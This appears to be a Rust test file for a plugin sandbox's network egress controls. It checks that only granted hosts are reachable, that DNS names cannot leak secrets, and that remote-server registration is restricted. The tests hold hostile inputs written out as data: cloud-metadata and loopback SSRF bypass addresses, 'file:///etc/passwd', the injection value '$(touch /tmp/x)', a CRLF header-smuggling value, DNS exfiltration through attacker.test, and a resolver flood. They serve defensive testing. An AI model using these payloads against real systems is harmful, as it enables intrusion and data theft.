//! The way out that an operator opens: it leads to the host that was named, and nobody else gets a byte.

use std::os::unix::fs::PermissionsExt as _;

use hayloft_testkit::node_service::NodeService;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::harness::{HOSTILE, PATIENCE, Setup, Verdicts, World, canary, suite, until};

in_every_setup!(
    only_the_host_that_was_granted_is_reached,
    a_name_is_what_it_says_it_is,
    names_carry_nothing_out,
    a_storm_of_refusals_is_a_few_lines,
    servers_elsewhere_lead_only_where_the_plugin_may_go,
);

/// A host that the plugin may reach at whatever address it has, so that it is looked up.
const LOOKED_UP: &str = "looked-up.test";

/// A service of the outside that the plugin may reach under one name, at one port with TLS and one without.
struct Granted {
    outside: NodeService,
    world: World,
    _folder: TempDir,
}

impl Granted {
    async fn start(setup: Setup) -> Self {
        let script = suite().join("../functional/fixtures/outside.cjs");
        let outside = NodeService::start::<&str>(&script, &[], &[]);
        let port = |name: &str| outside.announcement()[name].as_u64().expect("a port");
        let private = json!([
            format!("allowed.test:443=127.0.0.1:{}", port("secure")),
            format!("allowed.test:7000=127.0.0.1:{}", port("raw")),
            format!("counts.test:80=127.0.0.1:{}", port("web")),
        ]);
        let folder = tempfile::tempdir().expect("a folder");
        std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o755))
            .expect("for all to read");
        let config = folder.path().join("hayloft.toml");
        let text = format!(
            "[network.private]\n{HOSTILE} = {private}\n[network.grants]\n{HOSTILE} = [\"{LOOKED_UP}:80\"]\n"
        );
        std::fs::write(&config, text).expect("a configuration");
        let config = config.to_str().expect("a path in UTF-8").to_owned();
        let world = World::start_with(setup, |server| server.environment("HAYLOFT_CONFIG", &config)).await;
        Self { outside, world, _folder: folder }
    }

    /// How many connections the services got so far.
    async fn counts(&self) -> Value {
        let code = "return await (await fetch('http://counts.test/connections')).json()";
        self.world.run(&self.world.attacker, code, json!(null)).await
    }

    /// How many names the host itself looked up so far.
    async fn looked_up(&self) -> u64 {
        let metrics = self.world.server.admin().get("/metrics").await.expect(200).text();
        let mut lines = metrics.lines();
        let figure = lines.find_map(|line| line.strip_prefix("hayloft_egress_host_lookups_total "));
        figure.map_or(0, |figure| figure.parse().expect("a number"))
    }

    /// The lines about refusals in an organization's trail.
    async fn refusals(&self) -> Vec<Value> {
        let trail = self.world.attacker.get("audit?limit=1000").await.expect(200).json();
        let entries = trail["entries"].as_array().expect("entries").iter();
        entries
            .filter(|entry| entry["action"] == "network.refused")
            .map(|entry| entry["detail"].clone())
            .collect()
    }

    async fn end(self) {
        assert!(self.outside.pid() > 0);
        self.world.victim_works().await;
        self.world.end().await;
    }
}

/// What a raw connection hears first; an error for none.
const RAW: &str = "
    return await new Promise((done, fail) => {
      const socket = require('net').connect({ host: input.host, port: input.port });
      socket.setTimeout(10000, () => fail(new Error('silence')));
      socket.on('data', (data) => { done(String(data)); socket.destroy(); });
      socket.on('error', fail).on('close', () => fail(new Error('closed')));
      if (input.words) socket.write(input.words);
    })";

/// A TLS handshake for a name over a connection to another one.
const TLS: &str = "
    return await new Promise((done, fail) => {
      const socket = require('net').connect({ host: input.host, port: input.port });
      socket.on('error', fail).on('close', () => fail(new Error('closed')));
      const secured = require('tls').connect({ socket, servername: input.name, rejectUnauthorized: false });
      secured.on('secureConnect', () => { done('secured'); socket.destroy(); }).on('error', fail);
    })";

async fn only_the_host_that_was_granted_is_reached(setup: Setup) {
    let granted = Granted::start(setup).await;
    let world = &granted.world;
    let mut verdicts = Verdicts::new(setup);
    // The controls.
    let raw = json!({ "host": "allowed.test", "port": 7000 });
    verdicts.succeeded(&world.attempts(&world.attacker, &[("the granted host", RAW)], raw).await[0]);
    let tls = json!({ "host": "allowed.test", "port": 443, "name": "allowed.test" });
    verdicts.succeeded(&world.attempts(&world.attacker, &[("TLS to it", TLS)], tls).await[0]);
    let before = granted.counts().await;

    for (host, port) in [
        ("evil.test", 7000),
        ("allowed.test", 22),
        ("allowed.test", 80),
        ("allowed.test", 7001),
        ("allowed.test.evil.test", 7000),
        ("x.allowed.test", 7000),
        ("evil.test#.allowed.test", 7000),
        ("allowed.test\0.evil.test", 7000),
        ("allowed.test@evil.test", 7000),
        ("evil.test allowed.test", 7000),
        ("*.allowed.test", 7000),
        ("*", 7000),
        ("allowed", 7000),
        ("test", 7000),
        ("127.0.0.1", 7000),
        ("localhost", 7000),
        ("0x7f.1", 7000),
        ("2130706433", 7000),
        ("::ffff:127.0.0.1", 7000),
        ("127.0.0.1.evil.test", 7000),
        ("169.254.169.254", 80),
        ("metadata.google.internal", 80),
        ("198.18.200.1", 443),
        ("198.18.0.1", 443),
        ("198.18.0.1", 7000),
    ] {
        let wanted = json!({ "host": host, "port": port });
        let act = format!("connect to {host:?}, port {port}");
        verdicts.refused(&world.attempts(&world.attacker, &[(&act, RAW)], wanted).await[0]);
    }
    // In TLS the name says whom it is for, whoever the connection was for.
    for name in ["evil.test", "x.allowed.test", "allowed.test.evil.test", ""] {
        let wanted = json!({ "host": "allowed.test", "port": 443, "name": name });
        let act = format!("TLS for {name:?}");
        verdicts.refused(&world.attempts(&world.attacker, &[(&act, TLS)], wanted).await[0]);
    }
    for words in ["GET / HTTP/1.1\r\nhost: evil.test\r\n\r\n", "\x16\x03\x01\x00\x00", "SSH-2.0-x\r\n"] {
        let wanted = json!({ "host": "allowed.test", "port": 443, "words": words });
        let act = format!("{words:?} instead of TLS");
        verdicts.refused(&world.attempts(&world.attacker, &[(&act, RAW)], wanted).await[0]);
    }
    let after = granted.counts().await;
    verdicts.check(before["raw"] == after["raw"] && before["secure"] == after["secure"], || {
        format!("connections arrived: {before} became {after}")
    });
    // They are written beside the refusal itself.
    until("the refusals in the trail", PATIENCE, async || {
        let refusals = granted.refusals().await;
        let told = |reason: &str| {
            refusals.iter().any(|line| line["reason"] == reason && line["host"] == "allowed.test")
        };
        ["port", "other-server-name", "no-server-name", "no-tls"].into_iter().all(told)
    })
    .await;
    verdicts.done();
    granted.end().await;
}

async fn a_name_is_what_it_says_it_is(setup: Setup) {
    let granted = Granted::start(setup).await;
    let world = &granted.world;
    let mut verdicts = Verdicts::new(setup);
    // Every way to ask for a name that is not there.
    let names = [
        ("look up", "return await require('dns').promises.lookup(input)"),
        ("resolve", "return await require('dns').promises.resolve4(input)"),
        ("fetch", "return (await fetch('http://' + input + '/')).status"),
        (
            "look up by another program",
            "const { stdout } = await require('util').promisify(require('child_process').execFile)(process.execPath, ['-e', `require('dns').lookup(${JSON.stringify(input)}, (error, address) => console.log(error ? 'none' : address))`]); if (stdout.trim() === 'none') throw new Error('none'); return stdout",
        ),
    ];
    for name in ["allowed.test.evil.test", "metadata.google.internal", "x.allowed.test"] {
        for outcome in world.attempts(&world.attacker, &names, json!(name)).await {
            verdicts.refused(&outcome);
        }
    }
    // Upper case is the same name, and it is the only one here with an address.
    for outcome in world.attempts(&world.attacker, &names[..2], json!("ALLOWED.test")).await {
        verdicts.succeeded(&outcome);
        verdicts.check(outcome.detail.contains("198.18."), || format!("another address: {outcome:?}"));
    }
    // The name server takes nonsense without harm.
    if setup.has_namespaces() {
        let nonsense = "
            const dgram = require('dgram'), net = require('net');
            const socket = dgram.createSocket('udp4');
            for (let n = 0; n < 300; n++) socket.send(require('crypto').randomBytes(1 + n % 600), 53, '198.18.0.1');
            for (let n = 0; n < 20; n++) net.connect(53, '198.18.0.1').on('error', () => {}).end(require('crypto').randomBytes(900));
            await new Promise((done) => setTimeout(done, 100));
            socket.close(); return true";
        world.run(&world.attacker, nonsense, json!(null)).await;
        let again = world.attempts(&world.attacker, &names[..1], json!("allowed.test")).await;
        verdicts.succeeded(&again[0]);
    }
    // Another worker's way out is not this one's.
    if !setup.has_namespaces() {
        let home = world.home(&world.victim).await;
        let ask = "
            return await new Promise((done, fail) => {
              const socket = require('net').connect(input);
              socket.on('data', (data) => done(String(data))).on('error', fail).on('close', () => fail(new Error('closed')));
              socket.write('connect allowed.test 7000\\n');
            })";
        let socket = format!("{home}/network.sock");
        verdicts.refused(
            &world.attempts(&world.attacker, &[("another worker's way out", ask)], json!(socket)).await[0],
        );
        let own = format!("{}/network.sock", world.home(&world.attacker).await);
        verdicts.succeeded(&world.attempts(&world.attacker, &[("its own", ask)], json!(own)).await[0]);
    }
    verdicts.done();
    granted.end().await;
}

async fn names_carry_nothing_out(setup: Setup) {
    let granted = Granted::start(setup).await;
    let world = &granted.world;
    let mut verdicts = Verdicts::new(setup);
    let secret = canary("name");
    let name = format!("{secret}.attacker.test");
    let before = granted.looked_up().await;
    let ways = [
        ("look up", "return await require('dns').promises.lookup(input)"),
        ("resolve", "return await require('dns').promises.resolve4(input)"),
        (
            "connect",
            "return await new Promise((done, fail) => require('net').connect(443, input, () => done('connected')).on('error', fail).on('close', () => fail(new Error('closed'))))",
        ),
    ];
    for outcome in world.attempts(&world.attacker, &ways[..2], json!(name)).await {
        verdicts.refused(&outcome);
    }
    // Where it asks the host for a connection, it is connected to the host and to nobody else.
    let _either_way = world.attempts(&world.attacker, &ways[2..], json!(name)).await;
    for kind in
        ["resolveTxt", "resolveMx", "resolveSrv", "resolveCname", "resolveNs", "resolveAny", "resolve6"]
    {
        let code = format!("return await require('dns').promises.{kind}(input)");
        verdicts.refused(&world.attempts(&world.attacker, &[(kind, &code)], json!(name)).await[0]);
    }
    until("its line in the trail", PATIENCE, async || {
        granted.refusals().await.iter().any(|line| line["host"] == *name)
    })
    .await;
    // Not even a name that it may reach is looked up because it asks for it.
    verdicts.succeeded(&world.attempts(&world.attacker, &ways[..1], json!(LOOKED_UP)).await[0]);
    let after = granted.looked_up().await;
    verdicts.check(before == after, || format!("the host looked {before} names up, and {after} afterwards"));
    // The control: it is looked up, and counted, for a connection to it.
    let connect = "return (await fetch('http://' + input + '/')).status";
    let _nobody_there = world.attempts(&world.attacker, &[("connect", connect)], json!(LOOKED_UP)).await;
    verdicts.check(granted.looked_up().await > after, || "a look-up of the host is not counted".into());
    verdicts.done();
    granted.end().await;
}

async fn a_storm_of_refusals_is_a_few_lines(setup: Setup) {
    let granted = Granted::start(setup).await;
    let world = &granted.world;
    let mut verdicts = Verdicts::new(setup);
    let storm = "
        const dns = require('dns').promises, net = require('net');
        const asked = Array.from({ length: 150 }, (_, n) => dns.lookup(n + '.' + input).catch(() => {}));
        const dialled = Array.from({ length: 100 }, () => new Promise((done) => net.connect(22, 'allowed.test').on('error', done).on('close', done)));
        await Promise.all([...asked, ...dialled]); return true";
    let began = std::time::Instant::now();
    world.run(&world.attacker, storm, json!("storm.test")).await;
    let lines = granted.refusals().await.len();
    verdicts.check((1..=40).contains(&lines), || {
        format!("{lines} lines in the trail after {:?}", began.elapsed())
    });
    let theirs = world.victim.get("audit?limit=1000").await.expect(200).text();
    verdicts.check(!theirs.contains("storm.test"), || "the victim's trail tells of it".into());
    verdicts.done();
    granted.end().await;
}

/// Hands over servers elsewhere, and gives the status of each answer.
const REGISTER: &str = "
    const statuses = {};
    const { HAY_API_URL: host, HAY_API_TOKEN: token } = process.env;
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
    for (const url of input.urls) {
      const body = JSON.stringify({ id: input.id, url, transport: 'http', headers: input.headers });
      const answer = await fetch(`${host}/v1/plugin-api/mcp/register-remote`, { method: 'POST', headers, body });
      statuses[url] = answer.status;
    }
    return statuses";

async fn servers_elsewhere_lead_only_where_the_plugin_may_go(setup: Setup) {
    let granted = Granted::start(setup).await;
    let before = granted.counts().await;
    let hostile = [
        "file:///etc/passwd",
        "gopher://counts.test/",
        "http://user@counts.test/",
        "http://counts.test@169.254.169.254/",
        "http://127.0.0.1/",
        "http://127.1/",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://0.0.0.0/",
        "http://[::1]/",
        "http://[::ffff:169.254.169.254]/",
        "http://[64:ff9b::a9fe:a9fe]/",
        "http://*.counts.test/",
        "http://counts.test./",
        "http://counts.test%00.evil.test/",
        "javascript:alert(1)",
        "$(touch /tmp/x)",
        "--flag",
    ];
    let run = async |id: &str, urls: &[&str], headers: Value| {
        let input = json!({ "id": id, "urls": urls, "headers": headers });
        granted.world.run(&granted.world.attacker, REGISTER, input).await
    };
    let answers = run("hostile", &hostile, json!({})).await;
    let refused = |status: &Value| status.as_u64().is_some_and(|status| (400..500).contains(&status));
    let statuses = answers.as_object().unwrap_or_else(|| panic!("{answers:#}"));
    assert!(statuses.len() == hostile.len() && statuses.values().all(refused), "{answers:#}");
    let smuggling = json!({ "Host": "allowed.test", "X-A": "a\r\nHost: evil" });
    let answers = run("smuggling", &["http://counts.test/"], smuggling).await;
    assert!(refused(&answers["http://counts.test/"]), "{answers:#}");

    // What can be an address is noted, but leads nowhere that the plugin may not go.
    let denied = [
        "http://evil.test:7000/",
        "http://evil.allowed.test:7000/",
        "http://allowed.test:7001/",
        "https://evil.allowed.test/",
    ];
    for (number, url) in denied.iter().enumerate() {
        assert_eq!(run(&format!("denied{number}"), &[url], json!({})).await[*url], 200, "{url}");
    }
    until("the refusals", PATIENCE, async || {
        let refusals = granted.refusals().await;
        let of_servers = refusals.iter().filter(|refusal| refusal["server"].is_string());
        of_servers.filter(|refusal| refusal["reason"] == "host" || refusal["reason"] == "port").count() == 4
    })
    .await;
    let after = granted.counts().await;
    assert!(before["raw"] == after["raw"] && before["secure"] == after["secure"], "{before} {after}");

    // Where it may go, the host goes.
    let good = "http://allowed.test:7000/";
    assert_eq!(run("good", &[good], json!({})).await[good], 200);
    until("the host", PATIENCE, async || granted.counts().await["raw"] != after["raw"]).await;
    granted.end().await;
}
